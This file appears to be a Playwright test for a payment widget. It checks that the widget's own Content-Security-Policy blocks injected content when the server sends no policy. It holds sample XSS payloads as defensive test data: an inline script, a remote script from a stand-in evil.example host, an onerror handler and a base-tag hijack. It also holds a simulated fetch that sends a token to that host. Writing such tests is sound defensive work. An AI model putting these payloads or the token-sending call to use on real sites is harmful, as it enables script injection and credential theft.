import { expect, test } from '../fixtures/test';

const injected = `
  <script>window.injected = 'inline'</script>
  <script src="https://evil.example/x.js"></script>
  <img src="data:," alt="" onerror="window.injected = 'handler'">
  <base href="https://evil.example/">`;

test('on a server that sends no policy, the page’s own stops what was injected, and the widget works', async ({
  page,
  openList,
  host,
}) => {
  const evil: string[] = [];
  await page.route('https://evil.example/**', async (route) => {
    evil.push(route.request().url());
    await route.fulfill({ contentType: 'text/javascript', body: 'window.injected = "foreign"' });
  });
  await page.route(/\/paywidget\/[^.]*$/, async (route) => {
    const response = await route.fetch();
    const { 'content-security-policy': policy, ...headers } = response.headers();
    expect(policy).toContain('frame-ancestors');
    const body = (await response.text()).replace('<body>', `<body>${injected}`);
    await route.fulfill({ status: response.status(), headers, body });
  });
  await openList();

  const frame = await host.frame();
  expect(await frame.evaluate(() => 'injected' in window)).toBe(false);
  expect(await frame.evaluate(() => document.baseURI)).not.toContain('evil');
  const sent = await frame.evaluate(() =>
    fetch('https://evil.example/token').then(
      () => 'sent',
      () => 'refused',
    ),
  );
  expect(sent).toBe('refused');
  expect(evil).toEqual([]);
});
